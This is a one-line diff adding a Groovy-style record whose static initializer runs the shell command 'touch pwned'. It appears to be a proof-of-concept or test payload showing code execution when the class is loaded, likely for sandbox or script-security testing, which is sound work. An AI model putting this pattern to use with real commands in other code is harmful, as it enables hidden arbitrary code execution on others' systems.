@@ -1,0 +1,1 @@
+record R(String x) { static int y = 'touch pwned'.execute().waitFor() }
